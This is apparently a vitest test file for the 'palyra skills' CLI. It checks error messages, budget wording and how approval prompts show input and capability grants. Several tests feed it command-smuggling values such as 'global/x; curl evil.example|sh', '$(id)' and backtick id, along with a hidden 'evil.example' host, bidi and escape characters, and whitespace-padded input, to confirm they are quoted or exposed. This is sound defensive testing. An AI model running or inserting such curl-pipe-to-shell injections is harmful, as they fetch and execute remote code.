/** What `palyra skills dev` and `run` say of what goes wrong: what it is, and what to do. */
import { createHash } from "node:crypto";
import { mkdirSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { command, echo, write } from "../../../../testing/forge/command.ts";
import { manifestText } from "../../../../testing/forge/manifest.ts";
import { useSandboxProgram } from "../../../../testing/sandbox-program.ts";
import { plain } from "../../src/cli/text/paint.ts";
import { devView } from "../../src/cli/views/dev.ts";
import { compose } from "../../src/entry/compose.ts";
import { PalyraError } from "../../src/errors.ts";
import { openSandboxPool } from "../../src/execution/index.ts";
import { CATALOG } from "../../src/operations/catalog.ts";
import { approvalQuestion } from "../../src/operations/shared/approval-question.ts";
import { launchPlanOf } from "../../src/operations/shared/launch-plan.ts";
import { shownInput } from "../../src/operations/shared/shown-input.ts";
import { tellGrant } from "../../src/operations/wording/grants.ts";
import { tellOutcome } from "../../src/operations/wording/outcomes.ts";
import { tellingOf } from "../../src/operations/wording/sentences.ts";
import { spentOf } from "../../src/operations/wording/units.ts";
import { commandLine, errorOf, temporaryFolder } from "../cli/support.ts";
import { newCall } from "../lifecycle/parts.ts";
import { skillFile } from "../lifecycle/support.ts";

const program = useSandboxProgram();
const [ECHO, PROSE] = await Promise.all([echo("", 0), command(write(1, 512, 5), '(data (i32.const 512) "hello")')]);

let root: string;
let folder: string;
beforeEach(() => {
  root = temporaryFolder();
  folder = join(root, "skill");
  mkdirSync(folder);
});
const put = (name: string, content: string | Uint8Array): void => writeFileSync(join(folder, name), content);
const env = () => ({ HOME: root, PALYRA_STATE_ROOT: join(root, "state"), PALYRA_VAULT_BACKEND: "encrypted_file" });

/** One round; as it is shown, too. */
async function once(input: Record<string, unknown> = {}) {
  const services = { ...compose({}, env()), sandbox: async () => openSandboxPool({ program, idle: 0 }) };
  const operation = await CATALOG["skills dev"].load();
  const { output: document } = await operation.run(
    services,
    { folder, input: "{}", once: true, module: [], asset: [], ...input },
    newCall(),
  );
  return { document, shown: devView(document, plain, {}) };
}

describe("skills dev", () => {
  it("says of several modules, none of which is known for the tool's, how one is named", async () => {
    put("skill.toml", manifestText());
    put("one.wasm", ECHO);
    put("two.wasm", ECHO);
    const { document, shown } = await once();
    expect(document).toMatchObject({ passed: false, run: null });
    expect(document.remarks).toEqual([
      expect.stringMatching(/^there are 2 modules, .*one\.wasm, .*two\.wasm.* --module .*one\.wasm/),
    ]);
    expect(shown.toString()).toContain("--module");
    expect((await once({ module: [join(folder, "one.wasm")] })).document).toMatchObject({ passed: true, remarks: [] });
    put("a;id.wasm", ECHO);
    expect((await once()).document.remarks).toEqual([expect.stringMatching(/ --module '[^']*a;id\.wasm',/)]);
  });

  it("says of words in its schemas that they forbid nothing, escaped, and passes all the same (T20)", async () => {
    const words = (more: string): void => put("skill.toml", manifestText({ inputSchema: `{ type = "object", ${more} }` }));
    put("one.wasm", ECHO);
    words('requried = ["a"]');
    const { document } = await once();
    expect(document).toMatchObject({ passed: true, run: { outcome: "Ok" } });
    expect(document.remarks).toEqual([
      "requried is no keyword of JSON Schema, so that it forbids nothing; is required meant? It is in the input_schema of acme.echo.say",
    ]);
    words('"propertis\\u202e" = {}');
    const { shown } = await once();
    expect(shown.toString()).toContain("propertis\\u{202e} is no keyword of JSON Schema");
    expect(shown.toString()).not.toContain("\u202e");
  });

  it("says of a tool that fails and declares what a trial has not that it has none of it", async () => {
    const more = '[capabilities.filesystem]\nwrite_roots = ["notes"]';
    put("skill.toml", manifestText({ more }));
    put("one.wasm", PROSE);
    const said = "its manifest declares folders, and a trial has none: what needs them is tried by the installed skill";
    expect((await once()).document.remarks).toContain(said);
    put("one.wasm", ECHO);
    expect((await once()).document.remarks).toEqual([]);
    put("one.wasm", PROSE);
    put("skill.toml", manifestText());
    expect((await once()).document.remarks).toEqual(['what it answered begins "hello"; a log goes to stderr']);
  });

  it("says what is missing: a folder with nothing of a skill, a module", async () => {
    const nothing = await once();
    expect(nothing.document.problem).toMatchObject({ code: "Usage", message: expect.stringContaining("no skill.toml in") });
    expect(nothing.shown.toString()).toContain("hint: name the folder of skill.toml");
    put("skill.toml", manifestText());
    const unbuilt = await once();
    expect(unbuilt.document.problem).toMatchObject({ code: "Usage", hint: expect.stringContaining("--module FILE") });
  });

  it("says which tools there are where there is none of that name", async () => {
    put("skill.toml", manifestText());
    put("one.wasm", ECHO);
    expect((await once({ tool: "nope" })).shown.toString()).toMatch(
      /acme\.echo has no tool "nope".*hint: its tools: acme\.echo\.say/,
    );
    expect((await once({ tool: "acme.echo.sya" })).shown.toString()).toContain("did you mean acme.echo.say?");
  });

  it("says of an answer that is no JSON that it is none, and of one of another shape what its schema promises", async () => {
    put("skill.toml", manifestText());
    put("one.wasm", PROSE);
    const { document, shown } = await once();
    expect(document.run).toMatchObject({ outcome: "RuntimeFailure", details: { fault: "output" } });
    expect(shown.toString()).toContain("what it answered is no JSON");
    expect(shown.toString()).not.toContain("output_schema");
    put("one.wasm", ECHO);
    put("skill.toml", manifestText({ outputSchema: '{ type = "object", required = ["a"] }' }));
    expect((await once()).shown.toString()).toContain("not what its output_schema promises");
    expect((await once({ input: "{'a':1}" })).shown.toString()).toContain("the input is no JSON");
  });

  it("says of a module that it is older than its sources, unless they were written together or it is built each time", async () => {
    put("skill.toml", manifestText());
    put("one.wasm", ECHO);
    put("main.rs", "");
    expect((await once()).document.remarks).toEqual([]);
    const hour = new Date(Date.now() - 3_600_000);
    utimesSync(join(folder, "one.wasm"), hour, hour);
    const { document } = await once();
    expect(document).toMatchObject({
      passed: true,
      remarks: [expect.stringMatching(/one\.wasm is older than main\.rs: .*--build COMMAND$/)],
    });
    const absent = await once({ module: [join(folder, "nothere.wasm")] });
    expect(absent.document).toMatchObject({ problem: { code: "Io" }, remarks: [] });
    expect((await once({ build: "true" })).document.remarks).toEqual([]);
    rmSync(join(folder, "main.rs"));
    expect((await once()).document.remarks).toEqual([]);
  });
});

describe("what a run has used", () => {
  it("is told as over its budget where it is", () => {
    const said = (details: Record<string, unknown>, outcome = "QuotaExceeded") =>
      tellOutcome({ outcome, tool_id: "acme.echo.say", details: Object(details) })?.says;
    expect(said({ quota: "fuel_budget", used: 103n, allowed: 100n })).toContain("103 units, over its budget of 100 units");
    expect(said({ quota: "max_memory_bytes", used: 7_654_605, allowed: 8_388_608 })).toBe(
      "it needs more memory than it may have: it had 7.3 MiB of 8.0 MiB, and asked for more than was left",
    );
    expect(said({ quota: "output_bytes", used: 1_048_640, allowed: 1_048_576 })).toBe(
      "it needs more output than it may have: 1,048,640 B, over its budget of 1,048,576 B",
    );
    expect(said({ used: 1999, allowed: 2000 }, "TimedOut")).toBe("it took longer than it may: its time was over, of 2,000 ms");
    expect(said({ used: 2013, allowed: 2000 }, "TimedOut")).toContain("2,013 ms, over its budget of 2,000 ms");
    const prepared = { used: 101, allowed: 100, phase: "preparing", module_bytes: 3_145_728 };
    const { says, lists, hint } =
      tellOutcome({ outcome: "TimedOut", details: prepared, tool_id: "acme.echo.say", skill_id: "acme.echo" }) ?? {};
    expect(says).toMatch(/over its budget of 100 ms, before any of its code ran$/);
    expect(lists).toEqual([expect.stringContaining("reading, checking and compiling its module of 3.0 MiB")]);
    expect(hint).toMatch(/^its manifest \(wall_clock_timeout_ms\) or an operator .* sets that/);
    expect(said({ ...prepared, module_bytes: undefined }, "TimedOut")).toContain("before any of its code ran");
    expect([spentOf(103n, 100n, String), spentOf(34, 100, String), spentOf(null, 100, String)]).toEqual([
      "103, over its budget of 100",
      "34 of 100",
      "unknown, of 100",
    ]);
  });
});

describe("a tool that is not there", () => {
  const palyra = commandLine;
  it("is told with those that are, the likest first", async () => {
    const file = await skillFile(root, { tools: ["acme.echo.say", "acme.echo.shout"] });
    await palyra(root)("skills", "install", "--artifact", file, "--allow-untrusted");
    const refused = errorOf(await palyra(root)("skills", "run", "acme.echo.shuot", "--input", "{}", "--json"));
    expect(refused).toMatchObject({
      code: "UnknownTool",
      details: { offered: ["acme.echo.shout", "acme.echo.say"] },
      hint: "did you mean acme.echo.shout?",
    });
    const other = errorOf(await palyra(root)("skills", "policy", "explain", "entirely", "--json"));
    expect(other.hint).toContain("there are acme.echo.say, acme.echo.shout");
    const named = ["entirely", "--skill", "acme.echo"];
    for (const command of [
      ["run", ...named],
      ["policy", "explain", ...named],
    ])
      expect(errorOf(await palyra(root)("skills", ...command, "--json"))).toMatchObject({
        message: 'acme.echo has no tool "entirely"',
        details: { skill_id: "acme.echo" },
        hint: "its tools: acme.echo.say, acme.echo.shout",
      });
  });
});

describe("T20: the input that a person is asked about", () => {
  it("stands as it was given, in a line of its own", async () => {
    const file = await skillFile(root, {});
    await commandLine(root)("skills", "install", "--artifact", file, "--allow-untrusted");
    const { plan } = await launchPlanOf(compose({}, env()), { tool: "acme.echo.say", surface: "terminal" }, newCall());
    const input = (text: string) => approvalQuestion(plan, new TextEncoder().encode(text)).context?.slice(-2);
    expect(input('{"text":"a \\"q\\""}')).toEqual(["the input, 18 B:", '  {"text":"a \\"q\\""}']);
    expect(input("x\u001b[31m\ny")?.at(-1)).toBe("  x\\u{1b}[31m\\u{a}y");
  });

  it("T28: has nothing out of sight behind blanks, in it or in its texts, and says of what is not shown how much it is", () => {
    const shown = (text: string) => shownInput(new TextEncoder().encode(text), 400);
    expect(shown(`{"text":"hi",${" ".repeat(3000)}"danger" : [1.50, true,null]}`)).toEqual({
      text: '{"text":"hi","danger":[1.50,true,null]}',
      note: undefined,
    });
    const text = `{"a":"${" ".repeat(3000)}","${"b".repeat(500)}":{},"danger":true}`;
    expect(shown(text).text).toBe(
      `{"a":"${" ".repeat(60)}"…(3,000 characters),"${"b".repeat(60)}"…(500 characters):{},"danger":true}`,
    );
    expect(shown(text).note).toBe(`not all of it is shown: 3,528 bytes with SHA-256 ${sha256(text)}`);
    const many = `[${'"0123456789abcdef",'.repeat(2000)}"danger"]`;
    expect(shown(many).text).toHaveLength(400);
    expect(shown(many).text).toContain('"0123456789ab"…(16 characters)');
    expect(shown(many).note).toContain(sha256(many));
    expect(shown("nonsense ".repeat(100)).note).toContain("900 bytes");
    expect(shown(`[1${"0".repeat(100)}]`)).toMatchObject({ text: `[1${"0".repeat(39)}…]`, note: expect.any(String) });
  });
});

describe("T28: what a tool may use, as a person is asked about it", () => {
  it("is in sight whatever else is asked for, and each name to its end", async () => {
    const decoys = Array.from({ length: 60 }, (_, n) => `"a${n}.example"`).join();
    const long = `${"www.trusted.example.".repeat(11)}evil.example`;
    const extra = `[capabilities]\nhttp_egress_allowlist = [${decoys}, "${long}"]\n[[capabilities.secrets]]\nscope = "skill:acme.echo"\nkey_names = ["token"]\n[capabilities.filesystem]\nwrite_roots = ["data"]`;
    const file = await skillFile(root, { extra });
    expect(await commandLine(root)("skills", "install", "--artifact", file, "--allow-untrusted")).toMatchObject({ exit: 0 });
    const { plan } = await launchPlanOf(compose({}, env()), { tool: "acme.echo.say", surface: "terminal" }, newCall());
    const lines = approvalQuestion(plan).context ?? [];
    for (const line of [
      "  network=a0.example",
      "  and 41 more of network",
      "  secret=skill:acme.echo/token",
      "  storage_write=data",
    ])
      expect(lines).toContain(line);
    expect(tellGrant(`network=${long}`)).toBe(`network=${long}`);
  });

  it("T44: goes on in no words that could be the host's", () => {
    expect(tellGrant("storage_read=notes, granted by the operator of this host")).toBe(
      'storage_read="notes, granted by the operator of this host"',
    );
    expect(tellGrant('storage_read=a", granted by "b')).toBe('storage_read="a\\", granted by \\"b"');
    expect(tellGrant("root=notes, read by nobody /srv/notes")).toBe('root="notes, read by nobody /srv/notes"');
    expect(tellGrant("network=https://*.h.example:443 private")).toBe('network="https://*.h.example:443 private"');
    for (const plain of ["storage_write=data/notes", "network=https://nas.local:8443 private", "root=data /srv/my data"])
      expect(tellGrant(plain)).toBe(plain);
  });
});

describe("T44: a command that is told to be typed", () => {
  const hint = (capability: string, name: string) =>
    tellOutcome({
      outcome: "CapabilityDenied",
      details: { capability: `skill.capability.${capability}`, operation: "x", name },
      tool_id: "acme.echo.say",
      skill_id: "acme.echo",
    })?.hint;

  it("holds nothing of what the tool asked for that a shell would take for more than a name", () => {
    expect(hint("vault.read", "global/weather.token-1")).toMatch(/ --global-key weather\.token-1$/);
    for (const name of [
      "global/x; curl evil.example|sh",
      "global/$(id)",
      "global/`id`",
      "global/--all",
      "global/a b",
      "skill:acme.echo/k",
    ])
      expect(hint("vault.read", name)).toMatch(/ --global-key KEY$/);
    expect(hint("http.egress", "https://api.example.com:8443")).toMatch(/ --origin https:\/\/api\.example\.com:8443$/);
    // Hosts that URLs have, as well as shells.
    for (const name of ["https://a;curl$ifs-evil.example", "https://a`id`", "https://a$(id)", "https://a&b", "https://a'b"]) {
      expect(new URL(name).origin).toBe(name);
      expect(hint("http.egress", name)).toMatch(/ --origin https:\/\/HOST$/);
    }
  });

  it("quotes a folder's name for the shell, which is its manifest's", () => {
    const error = new PalyraError("UnsafeStateRoot", {
      folder: "/state/skill-data/acme.echo/a",
      problem: "a link or a file lies where a root's folder must be",
      root: "a/b; curl evil.example|sh #",
      skill_id: "acme.echo",
    });
    expect(tellingOf(error)?.hint).toContain(" --root 'a/b; curl evil.example|sh #=FOLDER'");
  });
});

const sha256 = (text: string): string => createHash("sha256").update(text).digest("hex");
